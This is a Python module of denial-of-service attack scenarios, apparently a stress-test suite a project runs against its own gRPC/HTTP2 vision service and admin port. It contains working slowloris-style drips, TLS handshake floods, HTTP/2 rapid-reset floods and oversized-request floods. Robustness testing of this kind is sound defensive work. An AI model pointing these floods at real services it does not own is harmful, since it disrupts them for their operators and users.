"""Attacks by connections: many, slow, half open, in other protocols, and those on the admin port."""

import contextlib
import select
import socket
import ssl
import time

import payloads
import wire
from plan import ELSEWHERE, Target, attack, health
from server import Options

TLS = Options(tls=True)


def plain(t: Target, address: wire.Address, count: int, first: bytes = b"") -> list[socket.socket]:
    """Connections that say `first` and nothing else."""
    opened = []
    for _ in range(count):
        if t.left == 0:
            break
        with contextlib.suppress(OSError):
            connection = socket.socket()
            connection.settimeout(1)
            connection.bind((ELSEWHERE, 0))
            connection.connect(address)
            connection.sendall(first)
            connection.setblocking(False)
            opened.append(connection)
    t.sent(len(opened), len(first) * len(opened))
    return opened


def drip(t: Target, connections: list[socket.socket], data: bytes) -> None:
    """Sends `data` to each, a byte every half second, until the time is over; what is closed is counted."""
    open_ = list(connections)
    for byte in data * (1 + int(2 * t.left) // max(1, len(data))):
        if t.left == 0:
            break
        rest = []
        for connection in open_:
            try:
                connection.send(bytes([byte]))
                rest.append(connection)
            except BlockingIOError:
                rest.append(connection)
            except OSError:
                t.count("closed by the server")
        open_ = rest
        time.sleep(min(0.5, t.left))


@attack("silent", "3000 connections that say nothing", seconds=12)
def silent(t: Target) -> None:
    opened = plain(t, t.address, t.many(3000))
    drip(t, opened, b"")
    time.sleep(t.left)


@attack("slow-preface", "1500 connections that say who they are a byte at a time", seconds=12)
def slow_preface(t: Target) -> None:
    drip(t, plain(t, t.address, t.many(1500), wire.PREFACE[:4]), wire.PREFACE[4:20])


@attack("slow-headers", "1100 connections, each with headers that come a byte at a time", seconds=12)
def slow_headers(t: Target) -> None:
    block = wire.block(health())
    head = wire.PREFACE + wire.settings() + wire.frame(wire.HEADERS, wire.END_HEADERS, 1, block)
    drip(t, plain(t, t.address, t.many(1100), head[:-60]), head[-60:-1])


@attack("idle", "1200 connections that are ready and make no call", seconds=10)
def idle(t: Target) -> None:
    for _ in t.connects(t.many(1200)):
        t.sent(1)
    t.hold()


@attack("caller-connections", "1100 connections with a token, each with a body that does not end", caller=True, seconds=12)
def caller_connections(t: Target) -> None:
    block = wire.block(wire.call(f"{payloads.VISION}Detect", t.tokens["evil"]))
    begun = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, block)
    begun += wire.frame(wire.DATA, 0, 1, wire.message(bytes(100), length=5000))
    # One that is closed is opened anew.
    for _ in range(4):
        for connection in t.connects(t.many(1100) - sum(not c.closed for c in t.connections)):
            connection.write(begun)
            t.sent(2, len(begun))
            if t.left == 0:
                return
        wire.pump(t.connections, min(2, t.left))
    t.hold()


@attack("opened-anew", "connections opened and closed as fast as it goes, up to 30,000 in 8 s")
def opened_anew(t: Target) -> None:
    hello = wire.PREFACE + wire.settings()
    for _ in range(t.many(30_000)):
        if t.left == 0:
            break
        for connection in plain(t, t.address, 1, hello):
            connection.close()


@attack("http1", "1000 connections that bring a request of HTTP/1.1 slowly, and 1000 with noise", seconds=10)
def http1(t: Target) -> None:
    slow = plain(t, t.address, t.many(1000), b"POST /frostline.v1.VisionService/Detect HTTP/1.1\r\n")
    noise = plain(t, t.address, t.many(1000), bytes(range(128, 256)) * 32)
    drip(t, slow, b"a: b\r\n")
    del noise


# === TLS ===


def hello() -> bytes:
    """What a client begins a handshake with."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    client = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


@attack("tls-hellos", "10,000 beginnings of a TLS handshake in 8 s, each answered and left", options=TLS)
def tls_hellos(t: Target) -> None:
    first, open_ = hello(), []
    begun, count = time.monotonic(), t.many(10_000)
    for number in range(count):
        if t.left == 0:
            break
        open_ += plain(t, t.address, 1, first)
        if len(open_) > 200:
            oldest = open_.pop(0)
            select.select([oldest], [], [], 0.02)
            oldest.close()
        time.sleep(max(0.0, begun + t.seconds * number / count - time.monotonic()))


@attack("tls-slow", "1500 TLS handshakes that come a byte at a time", seconds=12, options=TLS)
def tls_slow(t: Target) -> None:
    first = hello()
    drip(t, plain(t, t.address, t.many(1500), first[:20]), first[20:60])


@attack("tls-resets", "100,000 calls in 5 s over TLS, each reset at once", seconds=7, options=TLS)
def tls_resets(t: Target) -> None:
    template = wire.Template(health())
    size = 500
    count = max(1, t.many(100_000) // size)
    batches = [template.streams(wire.reset, 0, 1 + 2 * size * at, size) for at in range(count)]
    t.flood(batches, 2 * size, 5)


# === the admin port ===


@attack("admin-slow", "500 connections to the admin port whose headers come slowly", seconds=12)
def admin_slow(t: Target) -> None:
    first = b"GET /metrics HTTP/1.1\r\nhost: localhost\r\nx: "
    drip(t, plain(t, t.admin, t.many(500), first), b"y")


@attack("admin-anew", "connections to the admin port opened as fast as it goes, each left open, up to 20,000 in 8 s")
def admin_anew(t: Target) -> None:
    open_: list[socket.socket] = []
    for _ in range(t.many(20_000)):
        if t.left == 0:
            break
        open_ += plain(t, t.admin, 1, b"GET /livez HTTP/1.1\r\n")
        if len(open_) > 500:
            open_.pop(0).close()


@attack("admin-metrics", "16 connections that ask for the metrics as fast as they come", seconds=8)
def admin_metrics(t: Target) -> None:
    question = b"GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\n"
    connections = plain(t, t.admin, 16, question * 4)
    while t.left > 0 and connections:
        readable, _, _ = select.select(connections, [], [], min(0.5, t.left))
        for connection in readable:
            try:
                piece = connection.recv(1 << 18)
                if not piece:
                    raise ConnectionResetError
                for _ in range(piece.count(b"HTTP/1.1 200")):
                    connection.send(question)
                    t.sent(1, len(question))
            except BlockingIOError:
                pass
            except OSError:
                connections.remove(connection)
    t.notes["connections left"] = len(connections)


@attack("admin-large", "headers and bodies beyond all bounds to the admin port")
def admin_large(t: Target) -> None:
    token = payloads.field(1, bytes(64))
    for first in (
        b"GET /metrics HTTP/1.1\r\nhost: localhost\r\nx: " + b"y" * (1 << 20),
        b"PUT /log HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000000000\r\n\r\n" + b"z" * (1 << 20),
        b"PUT /log HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n" + b"1\r\nz\r\n" * 100_000,
        wire.PREFACE + wire.settings() + token,
    ):
        for _ in range(t.many(20)):
            with contextlib.suppress(OSError), socket.create_connection(t.admin, timeout=0.5) as connection:
                t.sent(1, len(first))
                connection.sendall(first)
                connection.recv(4096)
